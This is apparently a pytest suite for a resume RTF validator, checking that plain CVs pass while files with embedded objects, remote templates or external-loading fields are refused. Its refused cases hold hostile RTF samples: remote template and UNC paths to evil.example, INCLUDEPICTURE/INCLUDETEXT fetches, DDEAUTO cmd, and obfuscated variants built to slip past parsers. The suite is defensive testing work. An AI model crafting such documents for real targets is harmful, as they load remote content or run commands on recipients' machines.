"""RTF without objects or anything fetched from elsewhere, however it is cut or escaped."""

import io

import pytest

from candidates.resume_check import rich_text
from candidates.resume_check.reasons import Reason, Refused


def reason_for(content: bytes) -> Reason | None:
    try:
        rich_text.check(io.BytesIO(content))
    except Refused as refused:
        return refused.reason
    return None


@pytest.mark.parametrize(
    "content",
    [
        rb"{\rtf1 Amara}",
        rb"{\rtf1{\*\template C:\\Users\\amara\\CV.dotx}Amara}",
        rb"{\rtf1 Worked on INCLUDEPICTURE and DDE in Word {\field{\*\fldinst {HYPERLINK https://amara.example.org}}}}",
        rb"{\rtf1 C\'e9line}",
        rb"{\rtf1 \u1040?\u1084?\u1072?\u1088?\u1072?}",
        rb"{\rtf1{\*\template C:\\Users\\\u1040?\u1084?\u1072?\\CV.dotx}Amara}",
        rb'{\rtf1{\field{\*\fldinst { HYPERLINK "https://amara.example.org/\u1040?" }{{\*\datafield 00d0}}}}}',
        rb"{\rtf1{\field{\*\fldinst { IF {\field{\*\fldinst PAGE}{\fldrslt 1}} = 1 }}}}",
        b"{\\rtf1 Amara Okafor\\\nobjective: to write\\\r\nobject lenses}",
        rb"{\rtf1 Kept in C:\\objects}",
    ],
)
def test_honest_file_is_taken(content):
    assert reason_for(content) is None


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (b"<html>", Reason.NOT_RICH_TEXT),
        (rb"{\rtf1 {\object\objdata 0105}}", Reason.ATTACHMENT),
        (b"{\\rtf1 {\\ob\r\njdata 0105}}", Reason.ATTACHMENT),
        (rb"{\rtf1{\*\template http://example.com/t.dotm}}", Reason.LOADS),
        (rb"{\rtf1{\*\template \\\\host\\share\\t.dotm}}", Reason.LOADS),
        (rb'{\rtf1{\field{\*\fldinst { INCLUDEPICTURE "https://example.com/p"}}}}', Reason.LOADS),
        (rb"{\rtf1{\field{\*\fldinst {\rtlch IN}{\b\'43LUDETEXT x}}}}", Reason.LOADS),
        (rb"{\rtf1{\field{\*\fldinst DDEAUTO cmd}}}", Reason.LOADS),
        (rb"{\rtf1{\*\template h\u116?tp://evil.example/t.dotx}}", Reason.LOADS),
        (rb"{\rtf1{\*\template %5c\u92?host\\t.dotx}}", Reason.LOADS),
        (rb"{\rtf1{\*\template {http://evil.example/t.dotx}}}", Reason.LOADS),
        (rb"{\rtf1{\*\template {\*\x C:}http://evil.example/t.dotx}}", Reason.LOADS),
        (rb'{\rtf1{\field{\*\fldinst I\u78?CLUDEPICTURE "http://evil.example"}}}', Reason.LOADS),
        (rb'{\rtf1{\field{\*\fldinst {I\uc0\u65614 CLUDEPICTURE} "http://evil.example"}}}', Reason.LOADS),
        (rb'{\rtf1{\field{\*\fldinst \uc9\u160 HYPERLINKINCLUDETEXT "http://evil.example"}}}', Reason.LOADS),
        (rb'{\rtf1{\field{\*\fldinst {\*\x HYPERLINK }INCLUDETEXT "http://evil.example"}}}', Reason.LOADS),
        (rb'{\rtf1{\field{\*\fldinst {\upr{PAGE}{\*\ud{INCLUDETEXT "http://evil.example"}}}}}}', Reason.LOADS),
        (rb"{\rtf1{\field{\*\fldinst INCLUDETEXT\tab http://evil.example}}}", Reason.LOADS),
        (rb"{\rtf1{\field{\*\fldinst " + b"{\\b}" * 1000 + b"DDEAUTO cmd}}}", Reason.LOADS),
        (rb"{\rtf1{\field{\*\fldinst \bin1 }INCLUDETEXT http://evil.example}}}", Reason.LOADS),
        (rb"{\rtf1{\field{\*\fldinst {\bkmkstart PAGE }INCLUDETEXT http://evil.example}}}", Reason.LOADS),
        (rb"{\rtf1{\field{\*\fldinst INCL{\bkmkstart x}UDETEXT http://evil.example}}}", Reason.LOADS),
        (b"{\\rtf1{\\field{\\*\\fldinst\r\nINCLUDETEXT http://evil.example}}}", Reason.LOADS),
        (b"{\\rtf1{\\*\\template\nhttp://evil.example/t.dotm}}", Reason.LOADS),
        (rb"{\rtf1{\*\template file://\uc0\u104 /users/t.dotm}}", Reason.LOADS),
        (rb"{\rtf1{\*\template file://users/share/t.dotm}}", Reason.LOADS),
        (rb"{\rtf1 " + b"{\\fldinst " * 100_000, Reason.DAMAGED),
    ],
)
def test_other_file_is_refused_for_what_it_does(content, reason):
    assert reason_for(content) == reason
